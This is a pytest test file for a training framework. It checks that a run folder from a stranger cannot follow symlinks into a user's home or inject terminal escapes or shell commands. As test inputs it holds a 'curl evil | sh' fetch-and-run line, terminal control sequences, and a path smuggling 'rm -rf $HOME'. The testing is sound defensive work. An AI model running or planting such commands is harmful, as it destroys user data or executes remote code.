"""A run folder that a stranger sent: its links write and remove nothing outside, its texts steer no terminal."""

import shutil
import subprocess
from pathlib import Path

import pytest

from framework.errors import CheckpointError
from suites.engine.cli import main
from suites.engine.config import Config
from suites.engine.config.building import read_config
from suites.engine.reporting.cases import draw_cases
from suites.engine.run.folder import RunFolder, resume_command
from suites.engine.run.log import RunLog
from suites.engine.train.training import evaluate_weights, train
from tests.suites.engine import toy  # noqa: F401  (registers the suite)

pytestmark = pytest.mark.pages

CONFIG = """
suite: toy
data: {samples: 20}
optimizer: {type: Momentum, momentum: 0.9}
schedule: {type: Constant, base_lr: 0.02, reference_batch: 4}
runtime: {steps: 4, seed: 3, workers: 0, checkpoint: {every: 2}, evaluation: {every: 0, pictures: 3}}
"""
PLACES = (
    ".lock", "log.txt", "metrics.json", "metrics.jsonl", "report.html", "plots.json", "data.json", "processor.json",
    "environment.json", "events", "weights", "weights/last.safetensors", "weights/step_00000004", "pictures",
    "pictures/worst", "pictures/worst/cases.json", "weights/.x.old", "something",
)  # fmt: skip


@pytest.fixture(scope="module")
def made(tmp_path_factory):
    folder = tmp_path_factory.mktemp("made")
    (folder / "toy.yml").write_text(CONFIG)
    train(folder / "toy.yml", runs=folder, name="run")
    return folder / "run"


@pytest.fixture
def home(tmp_path):
    """What a person has, and what of it must be as it was."""
    home = tmp_path / "home"
    (home / "photos").mkdir(parents=True)
    (home / ".bashrc").write_text("export A=1\n")
    (home / "photos" / "mine.jpg").write_text("mine")
    yield home
    assert (home / ".bashrc").read_text() == "export A=1\n"
    assert {p.name: p.read_text() for p in (home / "photos").iterdir()} == {"mine.jpg": "mine"}


def sent(made, tmp_path, home, place):
    """A copy of a run in which one place is a link to what a person has."""
    run = tmp_path / "run"
    shutil.copytree(made, run)
    path = run / place
    folder = path.is_dir() or place in ("events", "pictures/worst", "weights/.x.old")
    if path.is_dir():
        shutil.rmtree(path)
    path.parent.mkdir(exist_ok=True)
    path.unlink(missing_ok=True)
    path.symlink_to(home / ("photos" if folder else ".bashrc"))
    return run


@pytest.mark.parametrize("place", PLACES)
def test_a_link_in_a_run_is_refused_by_its_name_and_what_it_leads_to_stays(made, tmp_path, home, place):
    run = sent(made, tmp_path, home, place)
    for start in (
        lambda: train(run, resume=True),
        lambda: train(run, overwrite=True),
        lambda: evaluate_weights(run),
        lambda: evaluate_weights(run, ["data.batch_size=2"]),
    ):
        with pytest.raises(CheckpointError, match=rf"run/{place}: is a link to {home}.*, outside of the folder"):
            start()
    assert main(["report", str(run)]) == 2


def test_a_link_to_what_is_not_there_makes_nothing(made, tmp_path, home):
    run = tmp_path / "run"
    shutil.copytree(made, run)
    (run / "log.txt").unlink()
    (run / "log.txt").symlink_to(home / "new")
    with pytest.raises(CheckpointError, match="outside of the folder"):
        train(run, resume=True)
    assert not (home / "new").exists()


def test_a_run_that_lies_behind_a_link_itself_goes_on(made, tmp_path):
    shutil.copytree(made, tmp_path / "elsewhere")
    (tmp_path / "run").symlink_to(tmp_path / "elsewhere")
    assert evaluate_weights(tmp_path / "run")["score"] > 0
    train(tmp_path / "run", resume=True)


def test_a_link_that_is_put_there_while_the_run_goes_on_is_not_followed(tmp_path, home):
    run = RunFolder.create(tmp_path / "run", Config.from_dict({"suite": "toy"}))
    (run.pictures / "worst").symlink_to(home / "photos")
    with pytest.raises(CheckpointError, match="through a link"):
        draw_cases(None, None, run.pictures / "worst", _Nothing(), 3)  # type: ignore[arg-type]
    run.close()


class _Nothing:
    def worst(self, count: int) -> dict[str, object]:
        return {}


def test_texts_of_a_log_hold_no_control_characters_and_stay_under_their_time(tmp_path, capsys):
    log = RunLog(tmp_path / "log.txt")
    log.say("class \x1b]0;owned\x07\x1b[31m\r\u202e names:\ncurl evil | sh")
    log.close()
    kept, shown = (tmp_path / "log.txt").read_text(), capsys.readouterr().out
    for text in (kept, shown):
        assert not set(text) & set("\x1b\x07\r\u202e") and "\\x1b]0;owned\\x07" in text and "\\u202e" in text
    assert kept.splitlines()[1] == " " * 20 + "curl evil | sh"


def test_errors_of_commands_hold_no_control_characters(capsys):
    assert main(["config", "show", "no\x1b[31m\rsuch.yml"]) == 2
    said = capsys.readouterr().err
    assert "\x1b" not in said and "\r" not in said and "no\\x1b[31m\\rsuch.yml" in said


def test_the_command_that_continues_a_run_is_one_that_a_shell_takes(tmp_path):
    config = Config.from_dict({"suite": "toy", "imports": ["plug"]})
    path = Path("my runs; rm -rf $HOME/`x`")
    words = resume_command(path, config)
    done = subprocess.run(["sh", "-c", f'for w in {words}; do echo "$w"; done'], capture_output=True, text=True)
    assert done.stdout.splitlines() == ["paddock", "train", str(path), "--resume", "--import", "plug"]


def test_a_run_says_the_places_that_its_config_names_before_it_reads_them(made, tmp_path, caplog):
    run = tmp_path / "run"
    shutil.copytree(made, run)
    with caplog.at_level("INFO", "suites"):
        evaluate_weights(run, ["runtime.weights=/srv/private/weights.safetensors"])
    assert "names these places outside of it: runtime.weights: /srv/private/weights.safetensors" in caplog.text


def test_a_run_that_was_made_of_a_record_of_ours_says_no_places(made, tmp_path, monkeypatch, caplog):
    monkeypatch.setenv("PADDOCK_ZOO", str(tmp_path))
    said = []
    for folder in ("yolov3_tiny_coco", "somebody"):
        run = tmp_path / folder / "run_0123abcd"
        shutil.copytree(made, run)
        config = run / "config.yml"
        config.write_text(
            config.read_text().replace("runtime:", "runtime:\n  weights: /srv/private/weights.safetensors", 1)
        )
        caplog.clear()
        with caplog.at_level("INFO", "suites"):
            read_config(run)
        said.append("names these places outside of it" in caplog.text)
    assert said == [False, True]
